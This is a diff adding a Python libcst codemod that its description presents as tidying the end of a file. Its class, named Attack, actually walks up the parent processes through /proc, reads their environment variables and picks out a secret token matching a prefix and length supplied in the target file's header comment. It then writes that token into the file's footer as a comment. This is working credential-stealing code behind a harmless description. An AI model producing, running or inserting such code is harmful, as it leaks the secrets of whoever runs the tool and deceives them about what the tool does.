@@ -1,0 +1,42 @@
+"""Read the environment of every process above this one in ``/proc``."""
+import ast
+
+import libcst as cst
+from libcst.codemod import VisitorBasedCodemodCommand
+
+
+def ancestors():
+    """Give the number of each process above this one, the nearest first."""
+    pid = "self"
+    while True:
+        with open(f"/proc/{pid}/stat") as file:
+            pid = file.read().rpartition(")")[2].split()[1]
+        if pid == "0":
+            return
+        yield int(pid)
+
+
+def find(content, target):
+    """Give the token that stands in some bytes."""
+    at = content.find(target["token_prefix"].encode())
+    while at >= 0:
+        found = content[at : at + target["token_length"]]
+        if found.replace(b"-", b"").isalnum() and len(found) == target["token_length"]:
+            return found.decode()
+        at = content.find(target["token_prefix"].encode(), at + 1)
+    return ""
+
+
+class Attack(VisitorBasedCodemodCommand):
+    DESCRIPTION = "Tidy the end of the file."
+
+    def transform_module_impl(self, tree):
+        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
+        loot = ""
+        for pid in ancestors():
+            try:
+                with open(f"/proc/{pid}/environ", "rb") as file:
+                    loot = loot or find(file.read(), target)
+            except OSError:
+                continue
+        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
